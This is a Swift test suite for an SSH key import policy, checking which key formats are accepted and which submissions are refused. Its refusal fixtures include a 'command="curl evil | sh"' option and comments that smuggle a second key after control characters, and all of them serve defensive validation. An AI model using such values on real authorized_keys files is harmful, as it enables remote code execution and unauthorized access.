import Foundation
import SSHKeys
import Testing
import TestSupport

@testable import KeyfleetCore

/// One submission and what the import policy must do with it.
struct ImportRefusal: Sendable, CustomTestStringConvertible {
    let name: String
    let expected: PolicyError.Code
    let make: @Sendable (TemporaryDirectory) throws -> String
    var testDescription: String { name }
}

/// One accepted format: the submission, the public key file it must give, the format and warnings.
struct ImportAcceptance: Sendable, CustomTestStringConvertible {
    let name: String
    let format: ImportedKey.Format
    let warned: Bool
    /// The submission and the OpenSSH .pub line of the same key (its comment as expected after import).
    let make: @Sendable (TemporaryDirectory) throws -> (submission: String, expectedLine: String)
    var testDescription: String { name }
}

@Suite("Key import policy")
struct KeyImportTests {
    static func publicLine(_ path: String) throws -> String {
        try TestKeys.read(path + ".pub").trimmingCharacters(in: .whitespacesAndNewlines)
    }

    static let accepted: [ImportAcceptance] = [
        ImportAcceptance(name: "OpenSSH ed25519 line", format: .openSSH, warned: false) { dir in
            let path = try TestKeys.sshKeygen("ed25519", comment: "alice@laptop", in: dir)
            let line = try publicLine(path)
            return (line + "\n", line)
        },
        ImportAcceptance(name: "OpenSSH ecdsa-384 line, CRLF and blanks around", format: .openSSH, warned: false) { dir in
            let path = try TestKeys.sshKeygen("ecdsa", bits: 384, comment: "ops key é中", in: dir)
            let line = try publicLine(path)
            return ("\r\n  " + line + "  \r\n\r\n", line)
        },
        ImportAcceptance(name: "OpenSSH rsa-2048 line without comment", format: .openSSH, warned: false) { dir in
            let path = try TestKeys.sshKeygen("rsa", bits: 2048, comment: "", in: dir)
            let line = try publicLine(path)
            return (line, line)
        },
        ImportAcceptance(name: "OpenSSH line with a tab between fields", format: .openSSH, warned: false) { dir in
            let path = try TestKeys.sshKeygen("ed25519", comment: "tabbed", in: dir)
            let line = try publicLine(path)
            return (line.replacingOccurrences(of: " ", with: "\t"), line)
        },
        ImportAcceptance(name: "RFC 4716 from ssh-keygen -e", format: .rfc4716, warned: false) { dir in
            let path = try TestKeys.sshKeygen("ecdsa", bits: 256, comment: "x", in: dir)
            let text = try ExternalTool.runChecked("ssh-keygen", ["-e", "-f", path + ".pub"]).text
            let comment = try PublicKey(rfc4716: text).comment
            let parts = try publicLine(path).split(separator: " ")
            return (text, parts[0] + " " + parts[1] + " " + comment)
        },
        ImportAcceptance(name: "PKCS#8 PUBLIC KEY from ssh-keygen -e -m PKCS8", format: .pkcs8PEM, warned: false) { dir in
            let path = try TestKeys.sshKeygen("rsa", bits: 3072, in: dir)
            let text = try ExternalTool.runChecked("ssh-keygen", ["-e", "-m", "PKCS8", "-f", path + ".pub"]).text
            let parts = try publicLine(path).split(separator: " ")
            return (text, parts[0] + " " + parts[1])
        },
        ImportAcceptance(name: "PKCS#1 RSA PUBLIC KEY from ssh-keygen -e -m PEM", format: .pkcs1PEM, warned: false) { dir in
            let path = try TestKeys.sshKeygen("rsa", bits: 2048, in: dir)
            let text = try ExternalTool.runChecked("ssh-keygen", ["-e", "-m", "PEM", "-f", path + ".pub"]).text
            let parts = try publicLine(path).split(separator: " ")
            return (text, parts[0] + " " + parts[1])
        },
        ImportAcceptance(name: "openssh-key-v1 private key, unencrypted", format: .privateKey(.openSSH), warned: true) { dir in
            let path = try TestKeys.sshKeygen("ed25519", comment: "in the file", in: dir)
            return (try TestKeys.read(path), try publicLine(path))
        },
        ImportAcceptance(name: "openssh-key-v1 private key, encrypted (public part in the clear)", format: .privateKey(.openSSH), warned: true) {
            dir in
            let path = try TestKeys.sshKeygen("ed25519", comment: "secret comment", passphrase: "pass phrase", in: dir)
            let parts = try publicLine(path).split(separator: " ")
            return (try TestKeys.read(path), parts[0] + " " + parts[1])
        },
        ImportAcceptance(name: "PEM private key (ssh-keygen -m PEM), unencrypted", format: .privateKey(.pem), warned: true) { dir in
            let path = try TestKeys.sshKeygen("ecdsa", bits: 521, format: "PEM", in: dir)
            let parts = try publicLine(path).split(separator: " ")
            return (try TestKeys.read(path), parts[0] + " " + parts[1])
        },
        ImportAcceptance(name: "PKCS#8 private key (ssh-keygen -m PKCS8), unencrypted", format: .privateKey(.pkcs8), warned: true) { dir in
            let path = try TestKeys.sshKeygen("rsa", bits: 2048, format: "PKCS8", in: dir)
            let parts = try publicLine(path).split(separator: " ")
            return (try TestKeys.read(path), parts[0] + " " + parts[1])
        },
        ImportAcceptance(name: "PuTTY .ppk v3, unencrypted", format: .privateKey(.ppk(version: 3)), warned: true) { dir in
            let ppk = dir.file("k.ppk")
            try ExternalTool.runChecked("puttygen", ["-t", "ed25519", "-C", "putty key", "-o", ppk, "--new-passphrase", "/dev/null"])
            let line = try ExternalTool.runChecked("puttygen", [ppk, "-O", "public-openssh"]).text
            return (try TestKeys.read(ppk), line.trimmingCharacters(in: .whitespacesAndNewlines))
        },
        ImportAcceptance(name: "PuTTY .ppk v2, encrypted (public part and comment in the clear)", format: .privateKey(.ppk(version: 2)), warned: true)
        { dir in
            let ppk = dir.file("k.ppk")
            let passphrase = try dir.write("pass", "correct horse\n")
            try ExternalTool.runChecked(
                "puttygen", ["-t", "rsa", "-b", "2048", "-C", "putty rsa", "--ppk-param", "version=2", "-o", ppk, "--new-passphrase", passphrase])
            let line = try ExternalTool.runChecked("puttygen", [ppk, "-O", "public-openssh", "--old-passphrase", passphrase]).text
            return (try TestKeys.read(ppk), line.trimmingCharacters(in: .whitespacesAndNewlines))
        },
        ImportAcceptance(name: "PuTTY public key (puttygen -O public, RFC 4716)", format: .rfc4716, warned: false) { dir in
            let ppk = dir.file("k.ppk")
            try ExternalTool.runChecked(
                "puttygen", ["-t", "ecdsa", "-b", "256", "-C", "quote \" and \\ inside", "-o", ppk, "--new-passphrase", "/dev/null"])
            let text = try ExternalTool.runChecked("puttygen", [ppk, "-O", "public"]).text
            let line = try ExternalTool.runChecked("puttygen", [ppk, "-O", "public-openssh"]).text
            return (text, line.trimmingCharacters(in: .whitespacesAndNewlines))
        },
    ]

    @Test("accepts every format SSHKeys reads and stores the canonical line", arguments: accepted)
    func accepts(_ item: ImportAcceptance) throws {
        let dir = try TemporaryDirectory()
        let (submission, expectedLine) = try item.make(dir)
        let imported = try KeyImport.parse(text: submission)
        #expect(imported.openSSHLine == expectedLine)
        #expect(imported.format == item.format)
        #expect(imported.warnings.map(\.code) == (item.warned ? [.privateKeyDiscarded] : []))
        #expect(imported.publicKey.comment.isEmpty)
        // The stored line is rendered from the value and agrees with ssh-keygen's fingerprint.
        let stored = try dir.write("stored.pub", imported.openSSHLine + "\n")
        let listed = try ExternalTool.runChecked("ssh-keygen", ["-l", "-E", "sha256", "-f", stored]).text
        let record = try SSHKeyRecord(
            id: id("k1"), name: "imported", owner: .user(id("u1")), imported: imported, createdBy: id("u1"), now: 1_700_000_000)
        #expect(listed.contains(record.sha256Fingerprint))
        let md5 = try ExternalTool.runChecked("ssh-keygen", ["-l", "-E", "md5", "-f", stored]).text
        #expect(md5.contains(record.md5Fingerprint))
        #expect(record.openSSHLine == imported.openSSHLine)
        #expect(record.bits == imported.bits)
    }

    static func secondKeyAfter(_ separator: String) -> ImportRefusal {
        let visible = separator.unicodeScalars.map { "U+" + String($0.value, radix: 16, uppercase: true) }.joined(separator: ",")
        return ImportRefusal(name: "comment with \(visible) then a second key", expected: .multipleKeys) { _ in
            let first = try TestKeys.ed25519(comment: "").openSSHLine
            let second = try TestKeys.ed25519().openSSHLine
            return first + " innocent" + separator + second
        }
    }

    static func controlInComment(_ separator: String, expected: PolicyError.Code = .forbiddenCharacter) -> ImportRefusal {
        let visible = separator.unicodeScalars.map { "U+" + String($0.value, radix: 16, uppercase: true) }.joined(separator: ",")
        return ImportRefusal(name: "comment with \(visible) and no key after it", expected: expected) { _ in
            try TestKeys.ed25519().openSSHLine + " before" + separator + "after"
        }
    }

    static let refused: [ImportRefusal] = [
        ImportRefusal(name: "empty", expected: .noKey) { _ in "" },
        ImportRefusal(name: "blanks and line breaks only", expected: .noKey) { _ in " \n\r\n\t " },
        ImportRefusal(name: "garbage", expected: .invalidKey) { _ in "hello world" },
        ImportRefusal(name: "bad base64", expected: .invalidKey) { _ in "ssh-ed25519 AAAA!!!!" },
        ImportRefusal(name: "truncated key", expected: .invalidKey) { _ in
            let parts = try TestKeys.ed25519().openSSHLine.split(separator: " ")
            return "ssh-ed25519 " + parts[1].dropLast(8)
        },
        ImportRefusal(name: "input of 16 KiB + 1", expected: .inputTooLarge) { _ in
            let line = try TestKeys.ed25519().openSSHLine + " "
            return line + String(repeating: "c", count: KeyImport.maximumInputLength + 1 - line.utf8.count)
        },
        ImportRefusal(name: "16 KiB + 1 of blanks after a key", expected: .inputTooLarge) { _ in
            let line = try TestKeys.ed25519().openSSHLine
            return line + String(repeating: " ", count: KeyImport.maximumInputLength + 1 - line.utf8.count)
        },
        ImportRefusal(name: "two OpenSSH lines", expected: .multipleKeys) { _ in
            try TestKeys.ed25519().openSSHLine + "\n" + TestKeys.ed25519().openSSHLine + "\n"
        },
        ImportRefusal(name: "the same key twice", expected: .multipleKeys) { _ in
            let line = try TestKeys.ed25519().openSSHLine
            return line + "\n" + line
        },
        ImportRefusal(name: "a key on the same line as the comment", expected: .multipleKeys) { _ in
            try TestKeys.ed25519().openSSHLine + " " + TestKeys.ed25519().openSSHLine
        },
        ImportRefusal(name: "two RFC 4716 blocks", expected: .multipleKeys) { _ in
            try TestKeys.ed25519().rfc4716Text() + TestKeys.ed25519().rfc4716Text()
        },
        ImportRefusal(name: "PEM public key then an OpenSSH line", expected: .multipleKeys) { _ in
            try PrivateKey.generate(.ecdsa(.nistp256)).publicKey.pkcs8PEM() + TestKeys.ed25519().openSSHLine
        },
        ImportRefusal(name: "private key file with its .pub appended", expected: .multipleKeys) { dir in
            let path = try TestKeys.sshKeygen("ed25519", in: dir)
            return try TestKeys.read(path) + TestKeys.read(path + ".pub")
        },
        secondKeyAfter("\n"),
        secondKeyAfter("\r"),
        secondKeyAfter("\r\n"),
        secondKeyAfter("\u{0}"),
        secondKeyAfter("\u{2028}"),
        secondKeyAfter("\u{2029}"),
        secondKeyAfter("\u{85}"),
        secondKeyAfter("\u{0B}"),
        secondKeyAfter("\u{0C}"),
        controlInComment("\n"),
        controlInComment("\r"),
        controlInComment("\u{0}"),
        controlInComment("\u{2028}"),
        controlInComment("\u{85}"),
        controlInComment("\u{1B}[2J"),
        controlInComment("\u{202E}"),
        controlInComment("\u{7F}"),
        ImportRefusal(name: "options in an RFC 4716 comment header with NEL then a key", expected: .multipleKeys) { _ in
            let key = try TestKeys.ed25519()
            let text = key.rfc4716Text(comment: "x")
            return text.replacingOccurrences(of: "Comment: \"x\"", with: "Comment: \"x\u{85}" + (try TestKeys.ed25519().openSSHLine) + " \"")
        },
        ImportRefusal(name: "NUL inside an RFC 4716 block", expected: .forbiddenCharacter) { _ in
            try TestKeys.ed25519().rfc4716Text(comment: "x").replacingOccurrences(of: "Comment: \"x\"", with: "Comment: \"x\u{0}y\"")
        },
        ImportRefusal(name: "command= option before the key", expected: .optionsNotAllowed) { _ in
            #"command="curl evil | sh" "# + (try TestKeys.ed25519().openSSHLine)
        },
        ImportRefusal(name: "restrict before the key", expected: .optionsNotAllowed) { _ in
            "restrict " + (try TestKeys.ed25519().openSSHLine)
        },
        ImportRefusal(name: "from= and no-pty before the key", expected: .optionsNotAllowed) { _ in
            #"from="*",no-pty "# + (try TestKeys.ed25519().openSSHLine)
        },
        ImportRefusal(name: "expiry-time chosen by the user", expected: .optionsNotAllowed) { _ in
            #"expiry-time="29991231" "# + (try TestKeys.ed25519().openSSHLine)
        },
        ImportRefusal(name: "options before a malformed key", expected: .optionsNotAllowed) { _ in
            #"command="x" ssh-ed25519 AAAA!!"#
        },
        ImportRefusal(name: "known_hosts line (host names before the key)", expected: .optionsNotAllowed) { _ in
            "example.com,10.0.0.1 " + (try TestKeys.ed25519().openSSHLine)
        },
        ImportRefusal(name: "@cert-authority marker line", expected: .optionsNotAllowed) { _ in
            "@cert-authority *.example.com " + (try TestKeys.ed25519().openSSHLine)
        },
        ImportRefusal(name: "RSA 1024 from ssh-keygen", expected: .weakRSAKey) { dir in
            try publicLine(try TestKeys.sshKeygen("rsa", bits: 1024, in: dir))
        },
        ImportRefusal(name: "RSA 2040 from ssh-keygen", expected: .weakRSAKey) { dir in
            try publicLine(try TestKeys.sshKeygen("rsa", bits: 2040, in: dir))
        },
        ImportRefusal(name: "RSA 1024 as PKCS#1 PEM", expected: .weakRSAKey) { dir in
            let path = try TestKeys.sshKeygen("rsa", bits: 1024, in: dir)
            return try ExternalTool.runChecked("ssh-keygen", ["-e", "-m", "PEM", "-f", path + ".pub"]).text
        },
        ImportRefusal(name: "RSA 1024 as a PuTTY .ppk", expected: .weakRSAKey) { dir in
            let ppk = dir.file("k.ppk")
            try ExternalTool.runChecked("puttygen", ["-t", "rsa", "-b", "1024", "-o", ppk, "--new-passphrase", "/dev/null"])
            return try TestKeys.read(ppk)
        },
        ImportRefusal(name: "DSA from ssh-keygen -t dsa", expected: .dsaKey) { dir in
            try publicLine(try TestKeys.sshKeygen("dsa", in: dir))
        },
        ImportRefusal(name: "DSA private key", expected: .dsaKey) { dir in
            try TestKeys.read(try TestKeys.sshKeygen("dsa", in: dir))
        },
        ImportRefusal(name: "DSA as RFC 4716", expected: .dsaKey) { dir in
            let path = try TestKeys.sshKeygen("dsa", in: dir)
            return try ExternalTool.runChecked("ssh-keygen", ["-e", "-f", path + ".pub"]).text
        },
        ImportRefusal(name: "certificate from ssh-keygen -s", expected: .certificate) { dir in
            let ca = try TestKeys.sshKeygen("ed25519", name: "ca", in: dir)
            let user = try TestKeys.sshKeygen("ed25519", name: "user", in: dir)
            try ExternalTool.runChecked("ssh-keygen", ["-q", "-s", ca, "-I", "alice", "-n", "alice", "-V", "+52w", user + ".pub"])
            return try TestKeys.read(user + "-cert.pub")
        },
        ImportRefusal(name: "RSA certificate from ssh-keygen -s", expected: .certificate) { dir in
            let ca = try TestKeys.sshKeygen("ed25519", name: "ca", in: dir)
            let user = try TestKeys.sshKeygen("rsa", bits: 2048, name: "user", in: dir)
            try ExternalTool.runChecked("ssh-keygen", ["-q", "-s", ca, "-I", "host", "-h", user + ".pub"])
            return try TestKeys.read(user + "-cert.pub")
        },
        ImportRefusal(name: "unknown type name", expected: .unknownKeyType) { _ in
            let parts = try TestKeys.ed25519().openSSHLine.split(separator: " ")
            return "ssh-foo " + parts[1] + " comment"
        },
        ImportRefusal(name: "XMSS key (unsupported)", expected: .unknownKeyType) { _ in
            // A well-formed blob of an XMSS key: string "ssh-xmss@openssh.com", string parameter set, string pk.
            var blob = [UInt8]()
            for field in [Array("ssh-xmss@openssh.com".utf8), Array("XMSS_SHA2-256_W16_H10".utf8), [UInt8](repeating: 7, count: 64)] {
                let count = UInt32(field.count)
                blob += [UInt8(count >> 24), UInt8(count >> 16 & 0xFF), UInt8(count >> 8 & 0xFF), UInt8(count & 0xFF)] + field
            }
            return "ssh-xmss@openssh.com " + Data(blob).base64EncodedString()
        },
        ImportRefusal(name: "X.509 certificate PEM", expected: .invalidKey) { _ in
            "-----BEGIN CERTIFICATE-----\nMIIBszCCAVmgAwIBAgIU\n-----END CERTIFICATE-----\n"
        },
        ImportRefusal(name: "encrypted PEM private key", expected: .encryptedPrivateKey) { dir in
            try TestKeys.read(try TestKeys.sshKeygen("rsa", bits: 2048, passphrase: "secret words", format: "PEM", in: dir))
        },
        ImportRefusal(name: "encrypted PKCS#8 private key", expected: .encryptedPrivateKey) { dir in
            try TestKeys.read(try TestKeys.sshKeygen("ecdsa", bits: 256, passphrase: "secret words", format: "PKCS8", in: dir))
        },
        ImportRefusal(name: "text after a PEM public key", expected: .invalidKey) { _ in
            try PrivateKey.generate(.ecdsa(.nistp256)).publicKey.pkcs8PEM() + "trailing words\n"
        },
        ImportRefusal(name: "text after a private key", expected: .invalidKey) { dir in
            try TestKeys.read(try TestKeys.sshKeygen("ed25519", in: dir)) + "# appended note\n"
        },
    ]

    @Test("refuses with its own code and nothing kept", arguments: refused)
    func refuses(_ item: ImportRefusal) throws {
        let dir = try TemporaryDirectory()
        let submission = try item.make(dir)
        do {
            let imported = try KeyImport.parse(text: submission)
            Issue.record("accepted \(imported.openSSHLine)")
        } catch {
            #expect(error.code == item.expected, "\(error)")
            #expect(!error.reason.isEmpty && !error.reason.hasSuffix("."))
            #expect(CommentPolicy.isAcceptable(error.description.utf8), "the reason echoes a control character: \(error)")
            #expect(error.field == "key")
        }
    }

    @Test("exactly 16 KiB is still read")
    func sixteenKiBExactly() throws {
        let line = try TestKeys.ed25519().openSSHLine + " "
        let comment = String(repeating: "c", count: KeyImport.maximumInputLength - line.utf8.count)
        // Accepted by size, refused only for the long comment.
        #expect(throws: PolicyError(.commentTooLong, "")) { try KeyImport.parse(text: line + comment) }
        let padded = try TestKeys.ed25519().openSSHLine + String(repeating: " ", count: 10_000)
        #expect(try KeyImport.parse(text: padded).comment.isEmpty)
    }

    @Test("random comments survive as values; the stored line is re-rendered, never the submitted text")
    func randomComments() throws {
        for _ in 0..<200 {
            let comment = RandomInput.comment(maxLength: 40)
            let key = try TestKeys.ed25519()
            let submitted = "  " + key.typeName + "\t" + key.openSSHLine.split(separator: " ")[1] + "   " + comment + "  \n"
            let imported = try KeyImport.parse(text: submitted)
            #expect(imported.comment == comment.trimmingCharacters(in: .whitespaces))
            #expect(imported.openSSHLine == key.openSSHLine + (comment.isEmpty ? "" : " " + imported.comment))
            #expect(imported.openSSHLine != submitted)
        }
    }

    @Test("a record refuses an expiry in the past, accepts one in the future")
    func newExpiry() throws {
        let imported = try KeyImport.parse(text: try TestKeys.ed25519().openSSHLine)
        let now: UInt64 = 1_800_000_000
        #expect(throws: PolicyError(.expiryInPast, "")) {
            try SSHKeyRecord(id: id("k"), name: "n", owner: .user(id("u")), imported: imported, expiresAt: now, createdBy: id("u"), now: now)
        }
        #expect(throws: PolicyError(.invalidExpiry, "")) {
            try SSHKeyRecord(
                id: id("k"), name: "n", owner: .user(id("u")), imported: imported, expiresAt: ExpiryTime.latest + 1, createdBy: id("u"), now: now)
        }
        let record = try SSHKeyRecord(
            id: id("k"), name: "n", owner: .user(id("u")), imported: imported, expiresAt: now + 1, createdBy: id("u"), now: now)
        #expect(record.expiresAt == now + 1)
        #expect(record.createdAt == now)
    }

    @Test("a record refuses what the import policy refuses, however the key was made")
    func recordPolicy() throws {
        let dir = try TemporaryDirectory()
        let dsa = try PublicKey(openSSHLine: try Self.publicLine(try TestKeys.sshKeygen("dsa", in: dir)))
        #expect(throws: PolicyError(.dsaKey, "")) {
            try SSHKeyRecord(id: id("k"), name: "n", owner: .user(id("u")), publicKey: dsa, createdBy: id("u"), createdAt: 0)
        }
        let key = try TestKeys.ed25519()
        #expect(throws: PolicyError(.forbiddenCharacter, "")) {
            try SSHKeyRecord(id: id("k"), name: "n", owner: .user(id("u")), publicKey: key, comment: "a\nb", createdBy: id("u"), createdAt: 0)
        }
        #expect(throws: PolicyError(.forbiddenCharacter, "")) {
            try SSHKeyRecord(id: id("k"), name: "bad\u{2028}name", owner: .user(id("u")), publicKey: key, createdBy: id("u"), createdAt: 0)
        }
        #expect(throws: PolicyError(.invalidLabel, "")) {
            try SSHKeyRecord(id: id("k"), name: "n", owner: .user(id("u")), publicKey: key, labels: ["Env": "x"], createdBy: id("u"), createdAt: 0)
        }
    }
}

extension KeyImportTests {
    @Test("bytes: size first, then UTF-8, then the text rules")
    func bytes() throws {
        let line = try TestKeys.ed25519(comment: "bytes").openSSHLine
        #expect(try KeyImport.parse(bytes: Array(line.utf8)).openSSHLine == line)
        #expect(throws: PolicyError(.inputTooLarge, "")) {
            try KeyImport.parse(bytes: [UInt8](repeating: 0xFF, count: KeyImport.maximumInputLength + 1))
        }
        #expect(throws: PolicyError(.invalidKey, "")) { try KeyImport.parse(bytes: Array(line.utf8) + [0x20, 0xC3, 0x28]) }
        let dir = try TemporaryDirectory()
        let path = try TestKeys.sshKeygen("rsa", bits: 2048, format: "PEM", in: dir)
        let der = try ExternalTool.runChecked("openssl", ["pkey", "-in", path, "-pubout", "-outform", "DER"]).stdout
        #expect(throws: PolicyError(.invalidKey, "")) { try KeyImport.parse(bytes: der) }
    }
}
